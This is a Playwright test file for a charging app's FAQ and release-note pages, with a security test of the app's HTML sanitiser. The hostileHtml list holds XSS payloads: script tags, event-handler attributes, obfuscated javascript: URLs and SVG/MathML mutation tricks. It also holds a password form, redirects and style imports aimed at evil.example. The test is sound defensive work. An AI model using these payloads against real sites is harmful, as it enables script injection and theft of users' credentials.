import type { Page } from '@playwright/test'
import { expect } from '../harness/fixtures.ts'
import { residents } from '../harness/residents.ts'
import { ruleCases, test, testImages } from '../harness/test-content.ts'

// In one worker, so that one demo is started.
test.describe.configure({ mode: 'default' })

const shown = ruleCases.filter(([, isShown]) => isShown).map(([name]) => `Rule ${name}`)

test('[FAQ-01] [REL-01] questions and notes are those of the customer, in order, with answers, tags and the seen mark', async ({
  page,
  street,
  addressOf,
  signIn,
}) => {
  await street.reset(residents.fjord.house, 'at-home')
  await signIn('fjord')
  await page.goto(addressOf('fjord', '/support/faq'))
  const categories = page.getByRole('main').getByRole('region')
  await expect(categories.first()).toBeVisible()
  const names = await categories.evaluateAll((all) => all.map((each) => each.getAttribute('aria-label')))
  expect(names).toEqual(['Charging', 'Ready times', 'Tariffs', 'Solar', 'Your charger', 'Account'])
  const charging = page.getByRole('region', { name: 'Charging' }).getByRole('link')
  const titles = await charging.allInnerTexts()
  expect(titles.slice(0, 3)).toEqual([
    'Why hasn’t my car started charging?',
    'What does Boost do?',
    'Why can’t I boost?',
  ])
  expect(titles.filter((title) => title.startsWith('Rule'))).toEqual(shown)
  await charging.first().click()
  await expect(page.getByText('It’s probably waiting for a cheaper half hour.')).toBeVisible()
  await page
    .getByRole('region', { name: 'Related' })
    .getByRole('link', { name: 'What does Boost do?' })
    .click()
  await expect(page).toHaveURL(addressOf('fjord', '/support/faq/what-boost-does'))
  await page.goto(addressOf('fjord', '/support/faq/rule-1'))
  await expect(page.getByRole('alert')).toContainText('Question not found')

  const marked = page.waitForResponse((response) =>
    (response.request().postData() ?? '').includes('SetLatestSeenReleaseNote'),
  )
  await page.goto(addressOf('fjord', '/release-notes'))
  const answer = await marked
  const { variables } = answer.request().postDataJSON() as { variables: { latestSeenDate: string } }
  expect(variables.latestSeenDate).toMatch(/^2026-11-18T12:.+Z$/)
  expect(await answer.json()).toMatchObject({ data: { setLatestSeenReleaseNote: { isSuccess: true } } })
  await page.getByRole('button', { name: 'Older notes' }).click()
  await expect(page.getByRole('button', { name: 'Older notes' })).toHaveCount(0)
  const notes = await page.getByRole('heading', { level: 2 }).allInnerTexts()
  expect(notes.filter((title) => title.startsWith('Rule'))).toEqual([
    // Notes of one day are sorted by id, the last one first: rule-8 stands before rule-14.
    'Rule without the excluded feature',
    'Rule with the feature',
    'Rule for the organisation',
    'Rule for the device type',
    'Rule from a firmware with three digits',
    'Rule up to this firmware',
    'Rule from this firmware',
    'Rule of the brand',
  ])
  expect(notes.slice(-2)).toEqual(['Settings on a large screen', 'Dark, light, or as your phone'])
  const oldest = page.getByRole('article').last()
  await expect(oldest.getByText('23.02.2026')).toBeVisible()
  await expect(oldest.getByText('New', { exact: true })).toHaveAttribute('data-colour', 'accent')
  await expect(oldest.getByText('Choose how the app looks')).toBeVisible()

  const account = page.waitForResponse(
    async (response) =>
      (response.request().postData() ?? '').includes(' latestSeenReleaseNote') &&
      // The body of a response to the page before the reload may be gone.
      (await response.text().catch(() => '')).includes(
        `"latestSeenReleaseNote":"${variables.latestSeenDate}"`,
      ),
  )
  await page.reload()
  await account
})

/** Hostile HTML of a CMS: the app builds its own tree from what it allows. */
const hostileHtml = [
  '<p>Before</p><script>window.ran = 1</script>',
  '<img src="/nowhere.svg" onerror="window.ran = 1" alt="a" style="position:fixed" class="a" id="root">',
  '<p onclick="window.ran = 1" onpointerenter="window.ran = 1" autofocus tabindex="0" onfocus="window.ran = 1">b</p>',
  ...[
    'javascript:window.ran=1',
    ' java&#10;script:window.ran=1',
    'JAVASCRIPT:window.ran=1',
    'data:text/html,<script>window.ran=1</script>',
    'vbscript:x',
    'file:///x',
    'blob:https://evil.example/1',
    'http://evil.example',
    '//evil.example',
    '/&#9;/evil.example',
    'ftp://evil.example',
  ].map(
    (address) => `<a href="${address}" ping="https://evil.example">link</a><img src="${address}" alt="">`,
  ),
  '<svg onload="window.ran = 1"><script>window.ran = 1</script><style>@import "https://evil.example"</style></svg>',
  '<svg><path style="fill:url(https://evil.example)" fill="image-set(\'https://evil.example\' 1x)"/></svg>',
  '<svg xml:base="https://evil.example"><image href="x.png"/><use href="data:image/svg+xml,x#a"/></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="window.ran = 1"></style></table></mtext></math>',
  '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><object data="javascript:window.ran=1"></object>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:x">c</button></form>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><template><script>window.ran = 1</script></template>',
  '<p>**broken [Markdown](javascript:window.ran=1 <b</p><p>After</p>',
].join('\n')

const megabyte = `<blockquote><p>${'a long page '.repeat(90_000)}</p>${'<blockquote onclick="window.ran = 1">'.repeat(500)}`

/** Runs in the page: the elements of the answer, and their attributes with values. */
function describeAnswer(answer: Element) {
  const inside = [...answer.querySelectorAll('p ~ div *')]
  const written = inside.flatMap((element) =>
    element
      .getAttributeNames()
      .map((name) => [element.localName, name, element.getAttribute(name)].join(' ')),
  )
  return {
    elements: [...new Set(inside.map(({ localName }) => localName))].toSorted(),
    attributes: [...new Set(written)].toSorted(),
    ran: Reflect.get(window, 'ran') ?? null,
  }
}

/** Runs in the page. */
function clickAll(answer: Element): void {
  for (const element of answer.querySelectorAll<HTMLElement>('a, p')) element.click()
}

async function answerWith(page: Page, content: string): Promise<void> {
  const category = { categoryId: 'charging', name: 'Charging', rank: 1 }
  const faq = { faqId: 'hostile', title: 'Hostile', rank: 1, updated: null, category, related_faqs: [] }
  await page.route('**/content?*', (route) =>
    (route.request().postData() ?? '').includes('GetFaqs')
      ? route.fulfill({ json: { data: { faqs: [{ ...faq, content }] } } })
      : route.fallback(),
  )
}

test('[SEC-09] hostile texts and pictures of editors never go live, and hostile HTML of a CMS runs and loads nothing', async ({
  page,
  demo,
  addressOf,
  signIn,
}) => {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!new URL(request.url()).hostname.endsWith('.localhost')) foreign.push(request.url())
  })
  page.on('dialog', (dialog) => {
    foreign.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn('fjord')

  for (const [at, picture] of testImages.entries()) {
    const url = `http://127.0.0.1:${demo.web}/content/images/seasonal-skins/picture-${at}.svg`
    const headers = { host: `fjord.localhost:${demo.web}` }
    expect((await page.request.get(url, { headers })).status(), picture).toBe(at === 0 ? 200 : 404)
  }
  await page.goto(addressOf('fjord', '/support/faq'))
  await expect(page.getByRole('link', { name: 'What does Boost do?' })).toBeVisible()
  await expect(page.getByRole('link', { name: /^Hostile/ })).toHaveCount(0)

  await answerWith(page, hostileHtml)
  await page.goto(addressOf('fjord', '/support/faq/hostile'))
  await expect(page.getByText('After', { exact: true })).toBeVisible()
  await page.getByRole('article').evaluate(clickAll)
  expect(await page.getByRole('article').evaluate(describeAnswer)).toEqual({
    elements: ['a', 'img', 'p'],
    attributes: ['img alt ', 'img alt a', 'img src /nowhere.svg'],
    ran: null,
  })
  await expect(page).toHaveURL(addressOf('fjord', '/support/faq/hostile'))

  await page.unrouteAll({ behavior: 'wait' })
  await answerWith(page, megabyte)
  await page.reload()
  await expect(page.getByText(/^a long page/)).toBeVisible()
  expect(await page.getByRole('article').evaluate(describeAnswer)).toEqual({
    elements: ['blockquote', 'p'],
    attributes: [],
    ran: null,
  })
  expect(foreign).toEqual([])
})
